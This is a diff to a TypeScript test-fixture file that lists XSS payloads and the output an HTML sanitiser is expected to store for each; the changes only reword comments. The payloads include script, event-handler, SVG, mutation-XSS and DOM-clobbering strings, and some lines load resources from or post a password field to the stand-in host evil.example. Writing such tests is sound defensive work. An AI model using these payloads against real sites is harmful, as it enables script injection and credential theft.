@@ -1,4 +1,4 @@
-/** Markup that nobody may publish, with what is stored of it. */
+/** Markup that must not be published, with what the sanitiser stores instead. */
 export const ATTACKS: [attack: string, stored: string][] = [
 	["<p>a<script>alert(1)</script>b</p>", "<p>ab</p>"],
 	["<<script>alert(1)</script>", "&lt;"],
@@ -23,7 +23,7 @@ export const ATTACKS: [attack: string, stored: string][] = [
 	['<img src="data:image/">', '<img src="" alt="">'],
 	['<img src="data:imagex/png;base64,AAAA">', '<img src="" alt="">'],
 	['<img src="data:,image/png">', '<img src="" alt="">'],
-	// Accepted as the source of a picture, where nothing runs; nowhere else.
+	// Allowed only as the source of a picture, where nothing runs.
 	[
 		"<img src='data:image/svg+xml,<svg onload=\"alert(1)\">'>",
 		'<img src="data:image/svg+xml,&lt;svg onload=&quot;alert(1)&quot;&gt;" alt="">',
@@ -66,8 +66,8 @@ const base64 = (text: string) => Buffer.from(text).toString("base64");
 const INTRUDE = "for(const w of [window,parent,top,opener])try{w.pwned=1}catch{}";
 
 /**
- * Sources of pictures of 40 × 30 pixels that hold scripts, and addresses of other sites. As the source of an
- * `img` they are shown and nothing else.
+ * Addresses of pictures of 40 × 30 pixels that contain scripts or refer to other sites. As the source of an `img`
+ * they are shown and do nothing else.
  */
 export const HOSTILE_DRAWINGS: string[] = [
 	`data:image/svg+xml,${encodeURIComponent(svg(`<script>${INTRUDE}</script>`, `onload='${INTRUDE}'`))}`,
@@ -79,8 +79,8 @@ export const HOSTILE_DRAWINGS: string[] = [
 ];
 
 /**
- * More of the same, which all try to set `pwned` on the window. How a browser reads them has surprised the
- * authors of one sanitiser or another, so only this counts: nothing of them runs.
+ * More attacks, all of which try to set `pwned` on the window. Browsers parse them in ways that have surprised
+ * authors of sanitisers, so tests do not compare the stored text: they only check that nothing runs.
  */
 export const RUNNERS: string[] = [
 	// Scripts
@@ -103,7 +103,7 @@ export const RUNNERS: string[] = [
 	'<link rel="modulepreload" href="https://evil.example/x.js">',
 	'<link rel="preload" as="script" href="https://evil.example/x.js">',
 	'<link rel="import" href="data:text/html,<script>pwned=1</script>">',
-	// Handlers
+	// Event handlers
 	"<img src=x: onerror=pwned=1>",
 	"<img/src=x:/onerror=pwned=1>",
 	"<img src='x:'onerror='pwned=1'/>",
@@ -158,7 +158,7 @@ export const RUNNERS: string[] = [
 	`<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwned=1'/>"></iframe>`,
 	`<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwned=1'/>">`,
 	...HOSTILE_DRAWINGS.map((source) => `<img src="${source}">`),
-	// Text that becomes markup once it is written down and read again
+	// Text that becomes markup when it is serialised and parsed again
 	"<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=pwned=1>",
 	'<svg></p><style><a id="</style><img src=x: onerror=pwned=1>">',
 	'<math><mtext><table><mglyph><style><math><table id="</table>"><img src=x: onerror=pwned=1>">',
@@ -180,15 +180,15 @@ export const RUNNERS: string[] = [
 	"<!doctype html [<!ENTITY x '<img src=x: onerror=pwned=1>'>]>&x;",
 	"&lt;img src=x: onerror=pwned=1&gt;",
 	"&amp;lt;img src=x: onerror=pwned=1&amp;gt;",
-	// Against the way lists of the old editor are rewritten
+	// Against the conversion of lists from the old editor
 	'<ol><li data-list="bullet&quot;><img src=x: onerror=pwned=1>">a</li></ol>',
 	"<ol><li data-list='\" onmouseover=\"pwned=1'>a</li></ol>",
 	'<ol class="data-list=&quot;"><li data-list=">">a</li></ol>',
 	'<ol><li data-list="</ol><img src=x: onerror=pwned=1>">a</li></ol>',
-	// Names that take the place of the page's own
+	// Names that hide the page's own properties
 	'<img name="getElementById" src=""><form name="documentElement"><input name="dataset"></form>',
 	'<form id="main"><input name="append"><input name="appendChild"></form>',
-	// Styles, and what they would fetch
+	// Styles, and what they would load
 	'<style>@import url("https://evil.example/x.css");body{background:url(https://evil.example/b)}</style>',
 	'<link rel="stylesheet" href="https://evil.example/x.css">',
 	'<p style="background:url(https://evil.example/s);position:fixed;inset:0;z-index:9999">a</p>',
@@ -200,9 +200,9 @@ export const RUNNERS: string[] = [
 	'<form action="https://evil.example/"><input name="password"><button>a</button></form>',
 	'<base href="https://evil.example/"><base target="_blank">',
 	'<video poster="https://evil.example/p" src="https://evil.example/v"></video>',
-	// Closes nothing again: last.
+	// Last, because nothing can close it.
 	"<plaintext><img src=x: onerror=pwned=1>",
 ];
 
-/** Shown as it is wherever a name, a title or a note is shown. */
+/** Must appear unchanged wherever a name, a title or a note is shown. */
 export const MARKUP_AS_TEXT = `"><img src=x: onerror=pwned=1></title></script><script>pwned=1</script>{{7*7}}`;
